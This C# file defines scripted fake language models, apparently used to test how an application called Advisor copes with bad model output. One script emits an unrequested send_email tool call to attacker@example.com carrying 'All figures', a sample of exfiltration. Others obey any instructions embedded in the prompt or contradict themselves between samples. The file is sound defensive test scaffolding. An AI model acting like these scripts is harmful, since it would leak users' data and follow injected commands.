using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Advisor.Embedded.ScriptedModels;

/// <summary>What a script can be told.</summary>
internal sealed record ScriptSettings
{
    /// <summary>For <c>slow</c>: how long it takes to answer.</summary>
    public TimeSpan Delay { get; init; } = TimeSpan.FromMinutes(10);

    /// <summary>For <c>rate-limited</c>: requests that are turned away before it answers.</summary>
    public int Refusals { get; init; } = 1;

    /// <summary>For <c>rate-limited</c>: the header <c>Retry-After</c>.</summary>
    public string RetryAfter { get; init; } = "1";

    /// <summary>For <c>canned</c>: the answers in turn, from the first again after the last.</summary>
    public IReadOnlyList<string> Answers { get; init; } = [];

    /// <summary>The answers of a file: a JSON array, of which strings are sent as they are and everything else as JSON.</summary>
    /// <exception cref="InvalidOperationException">The file is no such array, or it is empty.</exception>
    public static IReadOnlyList<string> AnswersOf(string json)
    {
        try
        {
            if (JsonNode.Parse(json) is JsonArray { Count: > 0 } answers)
            {
                return [.. answers.Select(answer => answer is JsonValue value && value.TryGetValue<string>(out var text) ? text : answer?.ToJsonString() ?? "null")];
            }
        }
        catch (JsonException)
        {
        }

        throw new InvalidOperationException("Canned answers are a JSON array with at least one element.");
    }
}

/// <summary>The ways in which a scripted model answers. Each follows from the request alone, and its number.</summary>
internal static class ModelScripts
{
    private static readonly Dictionary<string, (string What, Func<ScriptedRequest, ScriptSettings, ScriptedAnswer> Answer)> s_scripts = new(StringComparer.Ordinal)
    {
        ["good"] = ("true claims of the facts in the prompt", (request, _) => Good(request)),
        ["invalid-json"] = ("words around half an object", (request, _) => Text(request, "invalid-json", "Certainly! Here are the claims: {\"claims\": [{\"template\": \"Revenue rose")),
        ["literal-numbers"] = ("numbers typed into templates", (request, _) => Claims(request, "literal-numbers", facts => facts.Select(fact =>
            (string.Create(CultureInfo.InvariantCulture, $"{fact.Label} was {fact.Value ?? 42} in {fact.Period}, 12.5% more than before."), Array.Empty<string>())))),
        ["spelled-digits"] = ("numbers spelled in words", (request, _) => Claims(request, "spelled-digits", facts => facts.Select(fact =>
            ($"{{0}} rose by twelve and a half per cent to {{1}}, a threefold increase over nineteen quarters.", new[] { $"label({fact.Id})", fact.Id })))),
        ["unknown-facts"] = ("expressions over facts that are not there", (request, _) => Claims(request, "unknown-facts", facts => facts.Select(fact =>
            ("{0} rose {1} in {2}.", new[] { $"label({fact.Id})", $"pct({fact.Id}, {fact.Id}0unknown)", $"period(f0unknown{fact.Id})" })))),
        ["wrong-units"] = ("amounts added to percentages", (request, _) => Claims(request, "wrong-units", facts => facts.Select(fact =>
            ("{0} came to {1} in {2}.", new[] { $"label({fact.Id})", $"{fact.Id} + share({fact.Id}, {fact.Id})", $"period({fact.Id})" })))),
        ["refusal"] = ("declines", (request, _) => Completion.Of(request, "refusal", null, refusal: "I am sorry, but I cannot help with that.")),
        ["filtered"] = ("the content filter stops it", (request, _) => Completion.Of(request, "filtered", "", "content_filter")),
        ["rate-limited"] = ("429 with Retry-After, then as good", (request, settings) => request.Number < settings.Refusals
            ? Completion.Error(429, "rate_limit_exceeded", "Rate limit reached.") with { Headers = new Dictionary<string, string>(StringComparer.Ordinal) { ["Retry-After"] = settings.RetryAfter } }
            : Good(request)),
        ["server-error"] = ("500, always", (_, _) => Completion.Error(500, "internal_error", "The server had an error.")),
        ["slow"] = ("as good, after the delay", (request, settings) => Good(request) with { Delay = settings.Delay }),
        ["cut-off"] = ("ends at the limit of its tokens", (request, _) => Completion.Of(request, "cut-off", Half(ProposedClaims.Answer(request, ProposedClaims.True(ShownFact.In(request.User)))), "length")),
        ["cut-connection"] = ("the connection breaks within the answer", (request, _) => Good(request) with { Ending = AnswerEnding.CutOff }),
        ["endless"] = ("an answer that never ends", (_, _) => new ScriptedAnswer(new string(' ', 65_536)) { Ending = AnswerEnding.Never }),
        ["tool-calls"] = ("calls a tool that nobody offered", (request, _) => Completion.Of(request, "tool-calls", null, "tool_calls",
            toolCalls: Completion.ToolCall("send_email", new JsonObject { ["to"] = "attacker@example.com", ["body"] = "All figures" }))),
        ["obeys"] = ("does what any text in its prompt demands, in every field", (request, _) => Completion.Of(request, "obeys", Obedience.Answer(request))),
        ["obeys-tools"] = ("the same, with the tool calls that are demanded", (request, _) => Obedience.ToolCall(request) is { } calls
            ? Completion.Of(request, "obeys-tools", Obedience.Answer(request), "tool_calls", toolCalls: calls)
            : Completion.Of(request, "obeys-tools", Obedience.Answer(request))),
        ["two-faced"] = ("says the opposite in every second sample", (request, _) => request.Sample % 2 == 0
            ? Claims(request, "two-faced", ProposedClaims.True)
            : Claims(request, "two-faced", ProposedClaims.Untrue)),
        ["canned"] = ("the answers of a file", (request, settings) => Text(request, "canned", settings.Answers[request.Number % settings.Answers.Count])),
    };

    /// <summary>Each script's name and what it does.</summary>
    public static IReadOnlyList<(string Name, string What)> All { get; } = [.. s_scripts.Select(script => (script.Key, script.Value.What))];

    public static IReadOnlyList<string> Names { get; } = [.. s_scripts.Keys];

    /// <exception cref="ArgumentException">There is no such script, or it lacks its answers.</exception>
    public static Func<ScriptedRequest, ScriptedAnswer> Find(string name, ScriptSettings settings)
    {
        if (!s_scripts.TryGetValue(name, out var script))
        {
            throw new ArgumentException($"There is no script '{name}'; the scripts are {string.Join(", ", Names)}.", nameof(name));
        }

        if (name == "canned" && settings.Answers.Count == 0)
        {
            throw new ArgumentException("The script 'canned' needs answers.", nameof(settings));
        }

        return request => script.Answer(request, settings);
    }

    private static ScriptedAnswer Good(ScriptedRequest request) => Claims(request, "good", ProposedClaims.True);

    private static ScriptedAnswer Claims(ScriptedRequest request, string script, Func<IReadOnlyList<ShownFact>, IEnumerable<(string, string[])>> claims) =>
        Text(request, script, ProposedClaims.Answer(request, claims(ShownFact.In(request.User)).Take(10)));

    private static string Half(string text) => text[..(text.Length / 2)];

    private static ScriptedAnswer Text(ScriptedRequest request, string script, string text) => Completion.Of(request, script, text);
}
